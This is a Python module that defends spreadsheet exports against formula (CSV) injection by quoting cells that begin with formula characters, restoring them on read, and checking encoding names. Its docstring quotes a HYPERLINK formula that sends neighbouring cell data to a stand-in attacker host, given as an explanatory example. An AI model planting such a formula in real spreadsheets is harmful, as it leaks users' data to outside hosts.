"""Text cells of spreadsheets: formula neutralisation, encodings, bounded cell parsing.

**Formula injection.** A spreadsheet program runs a cell that starts with ``=``, ``+``, ``-``
or ``@`` (and, in some, a tab or a carriage return) as a formula: a name such as
``=HYPERLINK("http://evil.example/?"&A1,"click")`` sends the neighbouring cells away when
clicked. Following OWASP's CSV-injection advice, the writers put a single quote before such
text, which spreadsheet programs show as text and do not run. To keep the round trip lossless,
a text that already starts with quotes followed by such a character gets one more quote, and
the readers take exactly one quote off every text of that shape::

    =SUM(A1)   ->  '=SUM(A1)   ->  =SUM(A1)
    '=SUM(A1)  ->  ''=SUM(A1)  ->  '=SUM(A1)
    'quoted    ->  'quoted     ->  'quoted     (no formula character after the quotes)

Only text cells are neutralised (names, titles, ids, free-text answers); numbers, dates and
codes are written as they are, so ``-5`` stays a number.
"""

from __future__ import annotations

import codecs
import re
from typing import Final

from veteran_services.errors import InvalidInputError

__all__ = [
    "FORMULA_CHARACTERS",
    "MAX_DATE_CHARS",
    "check_encoding",
    "neutralise",
    "restore",
]

#: The characters that make a spreadsheet cell a formula (OWASP, "CSV Injection").
FORMULA_CHARACTERS: Final = "=+-@\t\r"

#: The longest cell read as a date (``2024年12月31日`` is 11 characters; a longer cell is no
#: date, and python-dateutil's parser costs time with the length of its input).
MAX_DATE_CHARS: Final = 40

_NEUTRALISED: Final = re.compile(r"'*[=+\-@\t\r]")
_RESTORABLE: Final = re.compile(r"'+[=+\-@\t\r]")


def neutralise(text: str) -> str:
    """*text* with a quote before it when a spreadsheet would run it as a formula.

    >>> neutralise('=HYPERLINK("x")'), neutralise("-"), neutralise("张三"), neutralise("'=1")
    ('\\'=HYPERLINK("x")', "'-", '张三', "''=1")
    """
    return "'" + text if _NEUTRALISED.match(text) else text


def restore(text: str) -> str:
    """*text* as it was before :func:`neutralise` (one quote off a neutralised formula).

    >>> restore("'=1"), restore("''=1"), restore("'quoted"), restore("=1")
    ('=1', "'=1", "'quoted", '=1')
    """
    return text[1:] if _RESTORABLE.match(text) else text


def check_encoding(encoding: object, argument: str = "encoding") -> str:
    """*encoding* if it names a text encoding Python has (``"gbk"``), else an error.

    Raises:
        InvalidInputError: for something that is not a string, an unknown encoding, or a codec
            that is not a text encoding (``"rot13"``, ``"base64"``).
    """
    if not isinstance(encoding, str):
        msg = f"'{argument}' must be the name of a text encoding, got {type(encoding).__name__}"
        raise InvalidInputError(argument, msg)
    shown = encoding[:40]
    try:
        info = codecs.lookup(encoding)
    except LookupError:
        msg = f"'{argument}' must be a text encoding Python knows (such as 'utf-8-sig' or "
        msg += f"'gbk'), got {shown!r}"
        raise InvalidInputError(argument, msg) from None
    if not getattr(info, "_is_text_encoding", True):
        msg = f"'{argument}' must be a text encoding (such as 'utf-8-sig' or 'gbk'), got "
        msg += f"{shown!r}, a codec of another kind"
        raise InvalidInputError(argument, msg)
    return encoding
